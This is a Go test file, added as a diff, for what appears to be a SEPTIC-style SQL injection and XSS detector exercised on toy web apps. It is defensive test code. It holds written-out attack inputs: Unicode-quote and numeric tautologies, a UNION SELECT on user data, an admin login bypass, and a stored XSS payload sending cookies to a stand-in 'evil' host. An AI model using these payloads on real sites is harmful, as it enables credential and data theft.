@@ -1,0 +1,303 @@
+package apps
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/septic-db/septic/internal/core"
+	"github.com/septic-db/septic/internal/engine"
+	"github.com/septic-db/septic/internal/webapp"
+)
+
+// deploy builds an app over a fresh engine (optionally protected),
+// installs its schema, and trains SEPTIC on the training requests when a
+// guard is given.
+func deploy(t *testing.T, schema []string, build func(webapp.Executor) *webapp.App,
+	training []webapp.Request, guard *core.Septic) *webapp.App {
+	t.Helper()
+	var db *engine.DB
+	if guard != nil {
+		db = engine.New(engine.WithQueryHook(guard))
+		guard.SetConfig(core.Config{Mode: core.ModeTraining})
+	} else {
+		db = engine.New()
+	}
+	for _, q := range schema {
+		if _, err := db.Exec(q); err != nil {
+			t.Fatalf("schema %q: %v", q, err)
+		}
+	}
+	app := build(db)
+	for _, req := range training {
+		if resp := app.Serve(req.Clone()); resp.Status != 200 {
+			t.Fatalf("training request %s failed: %+v", req, resp)
+		}
+	}
+	if guard != nil {
+		guard.SetConfig(core.Config{
+			Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
+			IncrementalLearning: false,
+		})
+	}
+	return app
+}
+
+type appCase struct {
+	name     string
+	schema   []string
+	build    func(webapp.Executor) *webapp.App
+	training []webapp.Request
+	workload []webapp.Request
+}
+
+func allApps() []appCase {
+	return []appCase{
+		{"waspmon", WaspMonSchema(), NewWaspMon, WaspMonTraining(), WaspMonWorkload()},
+		{"addressbook", AddressBookSchema(), NewAddressBook, AddressBookTraining(), AddressBookWorkload()},
+		{"refbase", RefbaseSchema(), NewRefbase, RefbaseTraining(), RefbaseWorkload()},
+		{"zerocms", ZeroCMSSchema(), NewZeroCMS, ZeroCMSTraining(), ZeroCMSWorkload()},
+	}
+}
+
+// TestAppsServeTrainingAndWorkload: every page works unprotected.
+func TestAppsServeTrainingAndWorkload(t *testing.T) {
+	for _, tc := range allApps() {
+		t.Run(tc.name, func(t *testing.T) {
+			app := deploy(t, tc.schema, tc.build, tc.training, nil)
+			for _, req := range tc.workload {
+				resp := app.Serve(req.Clone())
+				if resp.Status != 200 {
+					t.Errorf("%s: status %d (%v)", req, resp.Status, resp.Err)
+				}
+			}
+		})
+	}
+}
+
+// TestAppsWorkloadSizesMatchPaper pins the §II-F request counts.
+func TestAppsWorkloadSizesMatchPaper(t *testing.T) {
+	if n := len(AddressBookWorkload()); n != 12 {
+		t.Errorf("PHP Address Book workload = %d requests, paper says 12", n)
+	}
+	if n := len(RefbaseWorkload()); n != 14 {
+		t.Errorf("refbase workload = %d requests, paper says 14", n)
+	}
+	if n := len(ZeroCMSWorkload()); n != 26 {
+		t.Errorf("ZeroCMS workload = %d requests, paper says 26", n)
+	}
+}
+
+// TestAppsNoFalsePositivesUnderSEPTIC: the benign workload passes with
+// prevention on (demo phase D: "no false positives").
+func TestAppsNoFalsePositivesUnderSEPTIC(t *testing.T) {
+	for _, tc := range allApps() {
+		t.Run(tc.name, func(t *testing.T) {
+			guard := core.New(core.Config{Mode: core.ModeTraining})
+			app := deploy(t, tc.schema, tc.build, tc.training, guard)
+			for _, req := range tc.workload {
+				resp := app.Serve(req.Clone())
+				if resp.Blocked {
+					t.Errorf("false positive on %s: %+v", req, resp.Err)
+				}
+				if resp.Status != 200 {
+					t.Errorf("%s: status %d (%v)", req, resp.Status, resp.Err)
+				}
+			}
+			if got := guard.Stats().AttacksFound; got != 0 {
+				t.Errorf("attacks found on benign workload: %d", got)
+			}
+		})
+	}
+}
+
+// TestWaspMonSemanticMismatchVulnerable proves the unprotected app is
+// attackable despite sanitization (demo phase A).
+func TestWaspMonSemanticMismatchVulnerable(t *testing.T) {
+	app := deploy(t, WaspMonSchema(), NewWaspMon, nil, nil)
+
+	// U+02BC tautology through the sanitized string context: dumps every
+	// device even though none is named "nothing".
+	resp := app.Serve(webapp.Request{Path: "/device/view", Params: map[string]string{
+		"name": "nothingʼ OR ʼ1ʼ=ʼ1",
+	}})
+	if resp.Status != 200 {
+		t.Fatalf("attack request errored: %+v", resp)
+	}
+	if strings.Contains(resp.Body, "device not found") {
+		t.Error("mismatch tautology did not fire — expected a data dump")
+	}
+	if !strings.Contains(resp.Body, "heatpump") {
+		t.Errorf("expected dumped devices, got %q", resp.Body)
+	}
+
+	// Numeric-context injection: history for device "1 OR 1=1" dumps all
+	// readings of all devices.
+	resp = app.Serve(webapp.Request{Path: "/reading/history", Params: map[string]string{
+		"device": "1 OR 1=1", "limit": "100",
+	}})
+	if resp.Status != 200 {
+		t.Fatalf("numeric attack errored: %+v", resp)
+	}
+	if got := strings.Count(resp.Body, "t="); got < 5 {
+		t.Errorf("numeric injection returned %d readings, want all 5", got)
+	}
+}
+
+// TestWaspMonSecondOrderVulnerable proves the stored-quote second-order
+// flow works against the unprotected app.
+func TestWaspMonSecondOrderVulnerable(t *testing.T) {
+	app := deploy(t, WaspMonSchema(), NewWaspMon, nil, nil)
+
+	// Step 1: register a user whose name carries a quote; escaping makes
+	// the INSERT safe, but the DBMS stores the raw quote.
+	resp := app.Serve(webapp.Request{Path: "/user/register", Params: map[string]string{
+		"username": "basement' OR '1'='1", "email": "x@example.com", "notes": "-",
+	}})
+	if resp.Status != 200 {
+		t.Fatalf("register failed: %+v", resp)
+	}
+	// Step 2: the profile page reads the stored name back and
+	// concatenates it into the devices query — tautology fires.
+	resp = app.Serve(webapp.Request{Path: "/user/profile", Params: map[string]string{"id": "2"}})
+	if resp.Status != 200 {
+		t.Fatalf("profile failed: %+v", resp)
+	}
+	if !strings.Contains(resp.Body, "user has 3 devices") {
+		t.Errorf("second-order tautology should list every seeded device, got %q", resp.Body)
+	}
+}
+
+// TestWaspMonProtectedBlocksAttacks: the same attacks die with SEPTIC in
+// prevention mode (demo phase D).
+func TestWaspMonProtectedBlocksAttacks(t *testing.T) {
+	guard := core.New(core.Config{Mode: core.ModeTraining})
+	app := deploy(t, WaspMonSchema(), NewWaspMon, WaspMonTraining(), guard)
+
+	attacks := []webapp.Request{
+		{Path: "/device/view", Params: map[string]string{"name": "nothingʼ OR ʼ1ʼ=ʼ1"}},
+		// Note: a bare "xʼ-- " payload here would only truncate the final
+		// quote and leave the structure identical to the model — harmless,
+		// and correctly not flagged. The structural variants below are the
+		// real attacks.
+		{Path: "/device/view", Params: map[string]string{"name": "xʼ AND ʼ1ʼ=ʼ1"}},
+		{Path: "/reading/history", Params: map[string]string{"device": "1 OR 1=1", "limit": "10"}},
+		{Path: "/reading/history", Params: map[string]string{"device": "0 UNION SELECT username, email FROM wm_users", "limit": "10"}},
+		{Path: "/note/add", Params: map[string]string{"id": "1", "notes": "<script>document.location='http://evil?c='+document.cookie</script>"}},
+	}
+	for _, req := range attacks {
+		resp := app.Serve(req.Clone())
+		if !resp.Blocked {
+			t.Errorf("attack not blocked: %s -> %+v", req, resp)
+		}
+	}
+	if got := int(guard.Stats().AttacksBlocked); got != len(attacks) {
+		t.Errorf("blocked = %d, want %d", got, len(attacks))
+	}
+}
+
+// TestWaspMonProtectedSecondOrder: SEPTIC blocks the second-order attack
+// at its second step — the read-back query with the live quote.
+func TestWaspMonProtectedSecondOrder(t *testing.T) {
+	guard := core.New(core.Config{Mode: core.ModeTraining})
+	app := deploy(t, WaspMonSchema(), NewWaspMon, WaspMonTraining(), guard)
+
+	// Step 1 (the INSERT) is structurally benign and must pass.
+	resp := app.Serve(webapp.Request{Path: "/user/register", Params: map[string]string{
+		"username": "basement' OR '1'='1", "email": "x@example.com", "notes": "-",
+	}})
+	if resp.Status != 200 {
+		t.Fatalf("benign-shaped register blocked: %+v", resp)
+	}
+	// Step 2 is where the injection becomes structural: blocked. (The
+	// training traffic registered alice and bob, so the planted user is
+	// id 4.)
+	resp = app.Serve(webapp.Request{Path: "/user/profile", Params: map[string]string{"id": "4"}})
+	if !resp.Blocked {
+		t.Errorf("second-order read-back not blocked: %+v", resp)
+	}
+}
+
+// TestOrderByVariantsAreDistinctModels documents a deployment-relevant
+// property of structure learning: "ORDER BY name" and "ORDER BY
+// location" are different query structures under one identifier, so a
+// sort column the training never exercised is flagged — a false
+// positive from the operator's perspective, an untrained query from
+// SEPTIC's. The remedies are to train every legitimate sort (as the
+// crawler would, given form metadata) or to whitelist the column
+// app-side; the test pins the raw behaviour so a change is noticed.
+func TestOrderByVariantsAreDistinctModels(t *testing.T) {
+	guard := core.New(core.Config{Mode: core.ModeTraining})
+	app := deploy(t, WaspMonSchema(), NewWaspMon, WaspMonTraining(), guard)
+
+	// Trained: default sort (name). Untrained legitimate variant:
+	resp := app.Serve(webapp.Request{Path: "/devices", Params: map[string]string{"sort": "location"}})
+	if !resp.Blocked {
+		t.Fatalf("untrained sort column should mismatch the model: %+v", resp.Status)
+	}
+
+	// After training the variant, it passes.
+	guard.SetConfig(core.Config{Mode: core.ModeTraining})
+	if resp := app.Serve(webapp.Request{Path: "/devices", Params: map[string]string{"sort": "location"}}); resp.Status != 200 {
+		t.Fatalf("training the variant failed: %+v", resp)
+	}
+	guard.SetConfig(core.Config{
+		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true,
+		IncrementalLearning: false,
+	})
+	if resp := app.Serve(webapp.Request{Path: "/devices", Params: map[string]string{"sort": "location"}}); resp.Blocked {
+		t.Error("trained sort variant still blocked")
+	}
+	// And the injection stays blocked.
+	resp = app.Serve(webapp.Request{Path: "/devices", Params: map[string]string{
+		"sort": "(SELECT username FROM wm_users LIMIT 1)",
+	}})
+	if !resp.Blocked {
+		t.Error("ORDER BY subquery injection not blocked")
+	}
+}
+
+// TestZeroCMSLoginBypassBlocked: the classic auth-bypass, mismatch
+// edition, against the CMS.
+func TestZeroCMSLoginBypassBlocked(t *testing.T) {
+	guard := core.New(core.Config{Mode: core.ModeTraining})
+	app := deploy(t, ZeroCMSSchema(), NewZeroCMS, ZeroCMSTraining(), guard)
+
+	resp := app.Serve(webapp.Request{Path: "/login", Params: map[string]string{
+		"user": "adminʼ-- ", "pass": "whatever",
+	}})
+	if !resp.Blocked {
+		t.Errorf("login bypass not blocked: %+v", resp)
+	}
+}
+
+// TestZeroCMSLoginBypassWorksUnprotected documents the vulnerability the
+// protection test above covers.
+func TestZeroCMSLoginBypassWorksUnprotected(t *testing.T) {
+	app := deploy(t, ZeroCMSSchema(), NewZeroCMS, nil, nil)
+	resp := app.Serve(webapp.Request{Path: "/login", Params: map[string]string{
+		"user": "adminʼ-- ", "pass": "whatever",
+	}})
+	if resp.Status != 200 {
+		t.Fatalf("attack errored: %+v", resp)
+	}
+	if !strings.Contains(resp.Body, "welcome, role=admin") {
+		t.Errorf("auth bypass failed, got %q", resp.Body)
+	}
+}
+
+// TestStoredXSSRoundTripUnprotected shows the full stored-XSS chain:
+// markup survives escaping, lands in the database, and is echoed.
+func TestStoredXSSRoundTripUnprotected(t *testing.T) {
+	app := deploy(t, WaspMonSchema(), NewWaspMon, nil, nil)
+	payload := "<script>alert('Hello!');</script>"
+	resp := app.Serve(webapp.Request{Path: "/note/add", Params: map[string]string{
+		"id": "1", "notes": payload,
+	}})
+	if resp.Status != 200 {
+		t.Fatalf("note add failed: %+v", resp)
+	}
+	resp = app.Serve(webapp.Request{Path: "/note/view", Params: map[string]string{"id": "1"}})
+	if !strings.Contains(resp.Body, payload) {
+		t.Errorf("stored XSS did not round-trip: %q", resp.Body)
+	}
+}
